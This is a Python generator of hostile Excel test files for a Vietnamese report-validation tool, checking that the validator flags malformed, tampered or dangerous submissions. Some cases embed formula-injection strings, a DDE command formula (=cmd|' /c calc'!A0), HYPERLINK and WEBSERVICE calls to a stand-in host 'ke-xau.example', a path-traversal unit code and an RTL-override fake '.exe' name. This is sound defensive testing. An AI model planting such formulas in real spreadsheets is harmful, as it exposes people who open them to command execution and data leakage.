               lambda wb: setattr(wb[DATA][f"D{ctx.rows[CODE]}"], "value", datetime(2024, 3, 15)))
    return Case(n, p, ("finding", "date-in-number", ERROR, cell_of(ctx, CODE)),
                "Ô số liệu chứa ngày 15/03/2024 (định dạng ngày)", values=_with(ctx, **{CODE: None}))


@case("boolean-in-number")
def _(ctx, n):
    p = _write(ctx, f"{n}.xlsx", _with(ctx, **{CODE: True}))
    return Case(n, p, ("finding", "boolean-in-number", ERROR, cell_of(ctx, CODE)),
                "Ô số liệu chứa giá trị TRUE (ĐÚNG)", values=_with(ctx, **{CODE: None}))


def _typed(ctx, n, typed, expect_value=None, kind=None, note="", code=CODE, extra=None):
    values = _with(ctx, **{code: typed}, **(extra or {}))
    p = _write(ctx, f"{n}.xlsx", values)
    if kind:
        return Case(n, p, ("finding", kind, ERROR, cell_of(ctx, code)), note,
                    values={**values, code: None})
    # read as the number, with the cảnh báo that the figure was typed as text (so says the template too)
    return Case(n, p, ("read", {**values, code: expect_value}), note, also=("number-as-text",))


@case("text-thousands-dot")
def _(ctx, n):
    return _typed(ctx, n, "8.964", 8964, note="Số gõ dạng chữ “8.964” (dấu chấm phân cách hàng nghìn)")


@case("text-with-unit")
def _(ctx, n):
    return _typed(ctx, n, "15.868 lượt", 15868, note="Số kèm đơn vị “15.868 lượt”")


@case("text-ambiguous-comma")
def _(ctx, n):
    return _typed(ctx, n, "1,644", kind="ambiguous-number", note="“1,644”: một nghìn sáu trăm bốn mươi tư hay 1,644?")


@case("text-magnitude-word")
def _(ctx, n):
    return _typed(ctx, n, "5 triệu", 5_000_000, code="CD_QUA_TIEN", extra={"CD_QUA_SO": 3},
                  note="Số tiền gõ “5 triệu”")


@case("text-words")
def _(ctx, n):
    return _typed(ctx, n, "mười", kind="not-a-number", note="Số viết bằng chữ “mười”")


@case("text-nbsp-fullwidth")
def _(ctx, n):
    return _typed(ctx, n, "\u00a0１２３\u00a0", 123, note="Chữ số toàn khổ “１２３” kẹp giữa dấu cách không ngắt (gõ bằng bộ gõ tiếng Nhật/Trung)")


@case("text-looks-like-formula")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, inline(f"D{ctx.rows[CODE]}", "=1+2"), "not-a-number", ERROR,
                     "Chuỗi “=1+2” lưu dạng văn bản (không phải công thức)")


@case("number-overflow")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, set_cell(f"D{ctx.rows[CODE]}", "<v>1e400</v>", ' t="n"'),
                     "number-too-large", ERROR, "Ô số liệu lưu 1e400 (tràn số, thành vô cực)")


# ---------------------------------------------------------------- unit, period, catalogue

@case("wrong-catalogue")
def _(ctx, n):
    import random

    from batn.catalogue import load_catalogue
    from batn.demo import sample_values

    cat = load_catalogue("3tn-2009")
    p = _write(ctx, f"{n}.xlsx", dict(sample_values(cat, random.Random(2), 20)), catalogue=cat)
    return Case(n, p, ("finding", "wrong-catalogue", ERROR, f"{DATA}!C7"), "Biểu mẫu của bộ chỉ tiêu 3tn-2009")


@case("wrong-period")
def _(ctx, n):
    from batn.pipeline import load_period

    p = _write(ctx, f"{n}.xlsx", period=load_period("2023"))
    return Case(n, p, ("finding", "wrong-period", ERROR, f"{DATA}!C6"), "Biểu mẫu kỳ 2023 gửi cho kỳ 2024")


@case("unit-other-province")
def _(ctx, n):
    p = _write(ctx, f"{n}.xlsx", unit=_unit("KG_RG", "Đoàn phường Rạch Giá (tỉnh khác)"))
    return Case(n, p, ("finding", "unknown-unit", ERROR, f"{DATA}!C5"),
                "Báo cáo của một đơn vị tỉnh khác (mã KG_RG)", unit="KG_RG")


@case("duplicate-unit")
def _(ctx, n):
    older = _write(ctx, f"{n}-cu.xlsx", unit=_unit("CD_VP", "Chi đoàn Văn phòng Sở Tư pháp", "DCS_STP"))
    newer = _write(ctx, f"{n}-moi.xlsx", _with(ctx, **{CODE: 7}), unit=_unit("CD_VP", "Chi đoàn Văn phòng Sở Tư pháp", "DCS_STP"))
    return Case(n, older, ("finding", "duplicate-unit", WARNING, None),
                "Một đơn vị gửi hai tệp (bản cũ và bản sửa)", extra=(newer,), scope="consolidate", unit="CD_VP")


@case("unit-path-separators")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, inline("C5", "../../x")))
    return Case(n, p, ("finding", "unknown-unit", ERROR, f"{DATA}!C5"), "Mã đơn vị “../../x” (có dấu phân cách đường dẫn)",
                unit="../../x")


@case("unit-missing")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, set_cell("C5", "")))
    return Case(n, p, ("finding", "metadata-missing", ERROR, f"{DATA}!C5"), "Ô mã đơn vị bị xóa trắng", unit="")


@case("unit-formula-injection")
def _(ctx, n):
    text = '=HYPERLINK("http://ke-xau.example","Bấm vào đây")'
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, inline("C5", text)))
    return Case(n, p, ("finding", "unknown-unit", ERROR, f"{DATA}!C5"),
                "Mã đơn vị là chuỗi văn bản “=HYPERLINK(…)” (chờ được ghi lại thành công thức)", unit=text)


@case("unit-dde-formula")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, formula("C5", "cmd|' /c calc'!A0", "DCS_STP", t="str")))
    return Case(n, p, ("finding", "formula-risky", ERROR, f"{DATA}!C5"),
                "Ô mã đơn vị là lệnh DDE =cmd|' /c calc'!A0 có giá trị lưu sẵn “DCS_STP”")


@case("unit-bidi-control")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, inline("C5", "\u200fDCS_STP\u202c")))
    return Case(n, p, ("read", dict(ctx.values)), "Mã đơn vị kèm ký tự điều hướng vô hình (U+200F, U+202C) khi dán từ web")


@case("period-as-number")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, set_cell("C6", "<v>2024</v>", ' t="n"')))
    return Case(n, p, ("read", {**ctx.values, "@period": "2024"}), "Kỳ báo cáo gõ lại thành số 2024 (không còn là chữ)")


# ---------------------------------------------------------------- sheets and names

@case("sheet-renamed")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", lambda wb: setattr(wb[DATA], "title", "Data"))
    return Case(n, p, ("finding", "sheet-missing", ERROR, None), "Trang “Số liệu” bị đổi tên thành “Data”")


@case("sheet-renamed-names-follow")
def _(ctx, n):
    new = "Số liệu năm 2024"

    def change(wb):
        wb[DATA].title = new
        for key in list(wb.defined_names):
            dn = wb.defined_names[key]
            dn.attr_text = dn.attr_text.replace(f"'{DATA}'!", f"'{new}'!")
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", change)
    return Case(n, p, ("read", dict(ctx.values)), "Trang đổi tên trong Excel (tên định danh đi theo)")


@case("sheet-hidden")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", lambda wb: setattr(wb["Gương điển hình"], "sheet_state", "hidden"))
    return Case(n, p, ("read", dict(ctx.values)), "Trang “Gương điển hình” bị ẩn", also=("sheet-hidden",))


@case("sheet-very-hidden")
def _(ctx, n):
    def change(wb):
        wb.active = 1
        wb[DATA].sheet_state = "veryHidden"
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", change)
    return Case(n, p, ("read", dict(ctx.values)), "Trang “Số liệu” bị ẩn sâu (veryHidden, chỉ hiện lại bằng VBA)",
                also=("sheet-hidden",))


@case("sheet-deleted")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", lambda wb: wb.remove(wb[DATA]))
    return Case(n, p, ("finding", "sheet-missing", ERROR, None), "Trang “Số liệu” bị xóa")


@case("narrative-sheet-deleted")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", lambda wb: wb.remove(wb["Khó khăn, hạn chế"]))
    return Case(n, p, ("finding", "sheet-missing", ERROR, None), "Trang “Khó khăn, hạn chế” bị xóa",
                values=dict(ctx.values))


@case("name-deleted")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", lambda wb: wb.defined_names.pop("TT_DOANVIEN"))
    values = dict(ctx.values)
    values.pop("TT_DOANVIEN")
    return Case(n, p, ("finding", "missing-name", ERROR, None), "Tên định danh TT_DOANVIEN bị xóa", values=values)


@case("name-moved")
def _(ctx, n):
    row = ctx.rows["TT_DANGKY_3TN"]
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx",
               lambda wb: setattr(wb.defined_names["TT_DOANVIEN"], "attr_text", f"'{DATA}'!$D${row}"))
    return Case(n, p, ("finding", "name-moved", ERROR, f"{DATA}!D{row}"),
                "Tên định danh TT_DOANVIEN bị dời sang ô của chỉ tiêu khác")


@case("name-ref-error")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx",
               lambda wb: setattr(wb.defined_names["TT_DOANVIEN"], "attr_text", "#REF!"))
    return Case(n, p, ("finding", "name-broken", ERROR, None), "Tên định danh TT_DOANVIEN thành #REF! (ô bị xóa)")


@case("names-all-deleted")
def _(ctx, n):
    def change(wb):
        for key in list(wb.defined_names):
            del wb.defined_names[key]
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", change)
    return Case(n, p, ("finding", "not-a-template", ERROR, None), "Mọi tên định danh bị xóa (chép số liệu sang sổ mới)")


@case("name-far-away")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx",
               lambda wb: setattr(wb.defined_names["TT_DOANVIEN"], "attr_text", f"'{DATA}'!$D$1048576"))
    return Case(n, p, ("finding", "name-moved", ERROR, f"{DATA}!D1048576"),
                "Tên định danh TT_DOANVIEN trỏ xuống dòng cuối cùng 1.048.576")


@case("name-duplicated")
def _(ctx, n):
    row = ctx.rows["CV_CTPV_SO"]

    def dup(b):
        return b.replace(b"</definedNames>", f"<definedName name=\"TT_DOANVIEN\">'{DATA}'!$D${row}</definedName>"
                         f"</definedNames>".encode())
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(WORKBOOK, dup))
    return Case(n, p, ("finding", "name-moved", ERROR, f"{DATA}!D{row}"),
                "Tên định danh TT_DOANVIEN khai báo hai lần, lần sau trỏ sang ô khác")


# ---------------------------------------------------------------- text

def _narr(ctx, n, rows, expect_rows=None, *, kind=None, severity=WARNING, note="", also=()):
    p = _write(ctx, f"{n}.xlsx", narratives={"mo_hinh": rows})
    if kind:
        return Case(n, p, ("finding", kind, severity, None), note, values=dict(ctx.values))
    return Case(n, p, ("read", {**ctx.values, "@narr:mo_hinh": expect_rows}), note, also=also)


_WORDS = ("thanh niên tình nguyện cán bộ công chức viên chức trẻ mô hình sáng kiến đoàn viên chi đoàn "
          "phong trào trách nhiệm nhân dân công việc bản thân hội nghị học tập rèn luyện chuyên môn nghiệp vụ "
          "cải cách hành chính chuyển đổi số hiến máu an sinh xã hội địa phương kết quả nổi bật").split()


def _long_text(n_bytes: int, seed: int) -> str:
    import random

    rng = random.Random(seed)
    out, size = [], 0
    while size < n_bytes:
        w = rng.choice(_WORDS)
        out.append(w)
        size += len(w.encode()) + 1
    return " ".join(out)


@case("text-1mb")
def _(ctx, n):
    # Written into the XML directly: openpyxl would cut it to Excel's 32.767 characters.
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_MOHINH, inline("B4", _long_text(1 << 20, 5))))
    return Case(n, p, ("finding", "text-too-long", WARNING, None),
                "Một ô mô tả dài 1 MB chữ tiếng Việt (vượt giới hạn 32.767 ký tự của Excel)", values=dict(ctx.values))


@case("text-1mb-repetitive")
def _(ctx, n):
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_MOHINH, inline("B4", "Mô hình " + "rất hay. " * 120_000)))
    return Case(n, p, ("finding", "text-too-long", WARNING, None),
                "Một ô mô tả dài 1 MB lặp một câu (nén được hơn 300 lần, nhưng chỉ nở ra 1 MB)", values=dict(ctx.values))


@case("text-control-chars")
def _(ctx, n):
    cell = "M\x07ô h\x1b[31mình\x00 hay"
    body = "<is><t>" + "".join(f"_x{ord(c):04X}_" if ord(c) < 32 else xml_text(c) for c in cell) + "</t></is>"
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_MOHINH, set_cell("B4", body, ' t="inlineStr"')))
    return Case(n, p, ("finding", "text-cleaned", WARNING, None),
                "Ký tự điều khiển (chuông, ESC, NUL) trong nội dung mô hình", values=dict(ctx.values))


@case("text-rtl-override")
def _(ctx, n):
    return _narr(ctx, n, [("Mô hình \u202exslx.exe", "Chi đoàn", "Tốt")], kind="text-cleaned",
                 note="Ký tự đảo chiều U+202E trong nội dung (giả tên tệp)")


@case("text-emoji")
def _(ctx, n):
    row = ("Mô hình “Ngày thứ Bảy tình nguyện” 🌱💪🇻🇳", "Chi đoàn 👩‍💻", "Tốt 👍🏽")
    return _narr(ctx, n, [row], [row], note="Biểu tượng cảm xúc (emoji, kể cả chuỗi ghép ZWJ và cờ)")


INJECTION_TEXTS = ('=HYPERLINK("http://ke-xau.example","Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A9)",
                   "=cmd|' /c calc'!A0")


@case("text-formula-injection")
def _(ctx, n):
    rows = [(t, "Chi đoàn", t) for t in INJECTION_TEXTS]
    p = _write(ctx, f"{n}.xlsx", narratives={"mo_hinh": rows}, unit=_unit("DCS_SVH", "Đoàn cơ sở Sở Văn hóa"))
    return Case(n, p, ("read", {**ctx.values, "@narr:mo_hinh": rows}),
                "Nội dung văn bản bắt đầu bằng = + - @ (chờ thành công thức khi được ghi lại)", unit="DCS_SVH")


@case("narrative-webservice")
def _(ctx, n):
    f = formula("B4", '_xlfn.WEBSERVICE("http://ke-xau.example/mo-hinh")', "Mô hình lấy từ Internet", t="str")
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_MOHINH, f))
    return Case(n, p, ("finding", "formula-risky", ERROR, "Mô hình tiêu biểu!B4"),
                "Ô nội dung mô hình là công thức =WEBSERVICE(…) có văn bản lưu sẵn")


# ---------------------------------------------------------------- Unicode normalisation

def _nfd(s: str) -> str:
    return unicodedata.normalize("NFD", s)


@case("nfd-labels")
def _(ctx, n):
    def change(wb):
        ws = wb[DATA]
        for code, row in ctx.rows.items():
            ws.cell(row, 2).value = _nfd(ctx.cat[code].label)
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", change)
    return Case(n, p, ("read", dict(ctx.values)), "Mọi nội dung chỉ tiêu gõ lại ở dạng Unicode tổ hợp (NFD)")


@case("nfd-narrative")
def _(ctx, n):
    row = ("Tủ sách pháp luật điện tử", "Chi đoàn Văn phòng", "Được Sở ghi nhận")
    return _narr(ctx, n, [tuple(_nfd(x) for x in row)], [row],
                 note="Nội dung mô hình ở dạng NFD (gõ bằng VNI/Unicode tổ hợp, dán từ macOS)")


@case("nfd-kind-total")
def _(ctx, n):
    from batn import layout as L

    p = _write(ctx, f"{n}.xlsx", has_children=True)
    p = rezip(p, ctx.dir / f"{n}-nfd.xlsx", in_part(SHEET_DATA, inline("C8", _nfd(L.KIND_TOTAL))))
    (ctx.dir / f"{n}.xlsx").unlink()
    return Case(n, p, ("read", {**ctx.values, "@is_total": True}),
                "Ô “Loại số liệu” chọn “Tổng hợp (gồm các đơn vị trực thuộc)” nhưng lưu ở dạng NFD")


@case("nfd-units-file")
def _(ctx, n):
    units = ctx.work / "units-nfd.csv"
    lines = UNITS_CSV.splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        code, name, rest = line.split(",", 2)
        out.append(f"{code},{_nfd(name)},{_nfd(rest)}")
    units.write_text("\n".join(out) + "\n", encoding="utf-8")
    p = _good_copy(ctx, f"{n}.xlsx")
    return Case(n, p, ("read", dict(ctx.values)),
                "Danh sách đơn vị có mã ASCII nhưng tên đơn vị, tên cấp ở dạng NFD", units=units)


# ---------------------------------------------------------------- round 2: figures out of place, numbers too large

@case("zip-duplicate-member")
def _(ctx, n):
    with zipfile.ZipFile(ctx.good) as z:
        sheet = z.read(SHEET_DATA)
    other = set_cell(f"D{ctx.rows[CODE]}", "<v>999005</v>")(sheet)
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", lambda name, b: b, add={SHEET_DATA: other})
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp nén có hai phần cùng tên xl/worksheets/sheet1.xml (hai bản trang “Số liệu” khác nhau)",
                sentinels=(999005,), mentions=("hai phần cùng tên",))


@case("name-other-sheet")
def _(ctx, n):
    label = ctx.cat[CODE].label

    def change(wb):
        guide = wb["Hướng dẫn"]
        guide["B40"], guide["D40"] = label, 999006           # the row label copied there too
        wb.defined_names[CODE].attr_text = "'Hướng dẫn'!$D$40"
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx", change)
    return Case(n, p, ("finding", "name-other-sheet", ERROR, "Hướng dẫn!D40"),
                f"Tên định danh {CODE} trỏ sang trang “Hướng dẫn”, nhãn chỉ tiêu được chép sang đó",
                values=_with(ctx, **{CODE: None}), sentinels=(999006,))


@case("figure-in-notes")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx",
               lambda wb: (wb[DATA].__setitem__(f"D{ctx.rows[CODE]}", None),
                           wb[DATA].__setitem__(f"E{ctx.rows[CODE]}", 45)))
    return Case(n, p, ("finding", "figure-in-notes", ERROR, f"{DATA}!E{ctx.rows[CODE]}"),
                "Số 45 gõ vào cột “Ghi chú”, ô “Số liệu” để trống", values=_with(ctx, **{CODE: None}))


@case("text-below-table")
def _(ctx, n):
    p = _write(ctx, f"{n}.xlsx")
    p = tamper(p, p, lambda wb: (wb["Mô hình tiêu biểu"].__setitem__("B36", "Mô hình gõ dưới bảng"),
                                 wb["Mô hình tiêu biểu"].__setitem__("D36", "Được nhân rộng")))
    return Case(n, p, ("finding", "text-below-table", WARNING, "Mô hình tiêu biểu!B36"),
                "Một mô hình gõ ở dòng 36, dưới vùng nhập của bảng “Mô hình tiêu biểu” (dòng 4–33)",
                values=ctx.values)


@case("no-figures")
def _(ctx, n):
    p = _write(ctx, f"{n}.xlsx", {})
    return Case(n, p, ("finding", "no-figures", WARNING, None), "Biểu mẫu gửi lên không có số liệu nào",
                values={c: None for c in ctx.values})


@case("number-400-digits")
def _(ctx, n):
    return _typed(ctx, n, "4" + "0" * 399, kind="number-too-large",
                  note="Số 400 chữ số gõ dạng chữ (tràn mọi kiểu số khi cộng)")


@case("number-near-max-double")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, set_cell(f"D{ctx.rows[CODE]}", "<v>1.7e308</v>"),
                     "number-too-large", ERROR, "Ô số liệu lưu 1,7 × 10³⁰⁸ (hợp lệ một mình, thành vô cực khi cộng)")


@case("money-above-ceiling")
def _(ctx, n):
    code = next(i.code for i in ctx.cat.indicators if i.kind == "money")
    p = _write(ctx, f"{n}.xlsx", _with(ctx, **{code: 5 * 10 ** 15}))
    return Case(n, p, ("finding", "implausible-value", ERROR, cell_of(ctx, code)),
                "Số tiền 5 triệu tỷ đồng (vượt mức tối đa hợp lý 10¹⁵ đồng của bộ chỉ tiêu)",
                values=_with(ctx, **{code: 5 * 10 ** 15}))


# ---------------------------------------------------------------- LibreOffice, all at once

def _soffice_many(jobs: list[tuple[Path, str, Path]], timeout: float = 180) -> list[str]:
    """Convert with LibreOffice: one soffice process per target format, all running at once."""
    import lo

    exe = lo.soffice_path()
    if exe is None:
        return ["LibreOffice (soffice) chưa được cài"]
    by_fmt: dict[tuple[str, Path], list[Path]] = {}
    for src, fmt, outdir in jobs:
        by_fmt.setdefault((fmt, outdir), []).append(src)
    procs = []
    base = Path(tempfile.mkdtemp(prefix="batn-hostile-lo-"))
    for i, ((fmt, outdir), srcs) in enumerate(by_fmt.items()):
        outdir.mkdir(parents=True, exist_ok=True)
        prof = base / f"p{i}"
        (prof / "home").mkdir(parents=True)
        env = {**os.environ, "HOME": str(prof / "home"), "SAL_USE_VCLPLUGIN": "svp"}
        cmd = [exe, f"-env:UserInstallation={(prof / 'profile').as_uri()}", "--headless", "--invisible",
               "--nologo", "--nodefault", "--norestore", "--nolockcheck", "--convert-to", fmt,
               "--outdir", str(outdir), *map(str, srcs)]
        procs.append(subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                                      start_new_session=True))
    errors = []
    for p in procs:
        try:
            _, err = p.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            p.communicate()
            errors.append("soffice quá thời gian")
            continue
        if p.returncode:
            errors.append(err.decode(errors="replace"))
    shutil.rmtree(base, ignore_errors=True)
    return errors


# ---------------------------------------------------------------- the generator

def write_units(dirpath: Path) -> Path:
    p = Path(dirpath) / "units.csv"
    p.write_text(UNITS_CSV, encoding="utf-8")
    return p


def make_all(dirpath, cat, unit, period, valid_values) -> list[Case]:
    """Write every hostile case under `dirpath` (the files themselves, nothing else, are at its top level;
    helpers go to `dirpath/_work`). Cases LibreOffice cannot make here are left out."""
    from batn.xlsx.template import layout_rows, write_template

    dirpath = Path(dirpath)
    work = dirpath / "_work"
    work.mkdir(parents=True, exist_ok=True)
    good = write_template(work / "good.xlsx", cat, unit, period, values=valid_values)
    ctx = _Ctx(dirpath, work, cat, unit, period, dict(valid_values), write_units(work), good,
               rows={c: ir.row for c, ir in layout_rows(cat)[1].items()})
    cases = []
    for name, build in _BUILDERS:
        t0 = time.monotonic()
        c = build(ctx, name)
        c.name = name
        cases.append(c)
        make_all.timings[name] = time.monotonic() - t0
    t0 = time.monotonic()
    if ctx.conversions:
        jobs = [j for j in ctx.conversions if j[0] is not None]
        errors = _soffice_many([(src, fmt, work / f"lo-{fmt}") for src, fmt, _ in jobs])
        for src, fmt, dst in jobs:
            produced = work / f"lo-{fmt}" / f"{src.stem}.{fmt}"
            if produced.is_file():
                dst.parent.mkdir(parents=True, exist_ok=True)
                produced.replace(dst)
        for src, what, finish in ctx.conversions:
            if src is None:
                try:
                    finish()
                except (OSError, KeyError, zipfile.BadZipFile):
                    pass
        missing = [c.name for c in cases if not c.path.is_file()]
        if missing and not errors:
            errors.append("không tạo được " + ", ".join(missing))
        cases = [c for c in cases if c.path.is_file()]
        make_all.errors = errors
        make_all.timings["(LibreOffice)"] = time.monotonic() - t0
    for i, c in enumerate(cases):          # received in order, before the deadline; extras later
        os.utime(c.path, (RECEIVED + i, RECEIVED + i))
        for p in c.extra:
            os.utime(p, (RECEIVED + 3600 + i, RECEIVED + 3600 + i))
    return cases


make_all.errors = []      # why LibreOffice cases are missing, if they are
make_all.timings = {}     # seconds spent on each case


def unmet(c: Case, findings: list[dict], values: dict | None) -> str:
    """"" when `findings` (as dicts) and `values` are what case `c` expects; otherwise what is wrong."""
    got = [(f["kind"], f["severity"], f["cell"]) for f in findings]
    if c.expect[0] == "finding":
        _, kind, severity, cell = c.expect
        hits = [f for f in findings if f["kind"] == kind and f["severity"] == severity]
        if not hits:
            return f"không có {kind} ({severity}); có: {', '.join(k for k, _, _ in got) or 'không gì'}"
        if cell is not None and cell not in [f["cell"] for f in hits]:
            return f"{kind} ở {', '.join(f['cell'] or '?' for f in hits)}, không ở {cell}"
        if not any(all(m in f["message"] for m in c.mentions) for f in hits):
            return f"lời nhắn không nói “{'”, “'.join(c.mentions)}”"
        if not set(c.also) <= {k for k, _, _ in got}:
            return f"thiếu {', '.join(set(c.also) - {k for k, _, _ in got})}"
        if values is not None and c.values is not None:
            wrong = {k: values.get(k) for k, v in c.values.items() if values.get(k) != v}
            if wrong:
                return f"đọc sai {wrong}"
    else:
        if any(s == ERROR for _, s, _ in got):
            return "tệp đọc được mà bị báo lỗi: " + ", ".join(k for k, s, _ in got if s == ERROR)
        if {k for k, _, _ in got} != set(c.also):
            return f"phát hiện {sorted({k for k, _, _ in got})}, mong đợi {sorted(c.also)}"
        want = {k: v for k, v in c.expect[1].items() if not k.startswith("@")}
        if values is not None and values != want:
            return "đọc sai " + str({k: values.get(k) for k in want if values.get(k) != want[k]})
    if values is not None:
        used = [s for s in c.sentinels if s in values.values()]
        if used:
            return f"dùng giá trị lưu sẵn {used} của công thức nguy hiểm"
    return ""


# ---------------------------------------------------------------- child processes under limits

@dataclass
class Limited:
    returncode: int          # negative: killed by that signal
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float
    timed_out: bool


def run_limited(args: list[str], mem_bytes: int = 4 << 30, timeout: float = 120, env=None) -> Limited:
    """Run a command with an address-space limit and a timeout; report its time and peak RSS."""
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (mem_bytes, mem_bytes))

    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    t0 = time.monotonic()
    p = subprocess.Popen(args, stdout=out, stderr=err, preexec_fn=limit, env=env, start_new_session=True)
    timed_out = False
    polled_kb = 0
    while True:
        pid, status, ru = os.wait4(p.pid, os.WNOHANG)
        if pid:
            break
        polled_kb = max(polled_kb, _vm_hwm_kb(p.pid))
        if time.monotonic() - t0 > timeout:
            os.killpg(p.pid, signal.SIGKILL)
            timed_out = True
            pid, status, ru = os.wait4(p.pid, 0)
            break
        time.sleep(0.02)
    p.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - t0
    out.seek(0)
    err.seek(0)
    stderr = err.read().decode(errors="replace")
    # ru_maxrss would count the forked copy of this (large) test process: the child reports the
    # peak of its own program (VmHWM after exec) when it exits; a crashed child, what was polled.
    reported = [int(m) for m in re.findall(r"\[peak-rss-kb\] (\d+)", stderr)]
    peak_kb = max([polled_kb, *reported])
    return Limited(p.returncode, out.read().decode(errors="replace"), stderr, seconds, peak_kb / 1024, timed_out)


def _vm_hwm_kb(pid: int | str = "self") -> int:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        pass
    return 0


def _report_peak() -> None:
    sys.stderr.write(f"\n[peak-rss-kb] {_vm_hwm_kb()}\n")
    sys.stderr.flush()


def _json_default(x):
    if isinstance(x, (datetime, date)):
        return x.isoformat()
    return str(x)


def _main(argv: list[str]) -> int:
    import atexit

    atexit.register(_report_peak)
    if argv and argv[0] == "cli":            # `batn ...` itself, with its peak memory reported
        from batn.cli import app

        app(argv[1:], prog_name="batn")
        return 0
    from batn.catalogue import load_catalogue

    cat = load_catalogue("3tn-2024")
    if argv[0] == "read":
        from batn.checks import Expectation
        from batn.pipeline import validate_files
        from batn.units import load_units

        tree = load_units(argv[2]) if len(argv) > 2 else None
        t0 = time.monotonic()
        (fc,) = validate_files([argv[1]], Expectation(period="2024", catalogue=cat.id, units=tree), catalogue=cat)
        print(json.dumps({"seconds": time.monotonic() - t0, "values": dict(fc.submission.values),
                          "unit": fc.submission.unit, "period": fc.submission.period,
                          "findings": [f.as_dict() for f in fc.findings]}, ensure_ascii=False, default=_json_default))
        return 0
    if argv[0] == "consolidate":
        from batn.pipeline import consolidate_inbox, load_period
        from batn.units import load_units

        cons = consolidate_inbox(argv[1], load_units(argv[2]), cat, load_period("2024"))
        print(json.dumps({"units": {c: dict(r.totals) for c, r in cons.units.items()},
                          "findings": [f.as_dict() for f in cons.findings]}, ensure_ascii=False, default=_json_default))
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
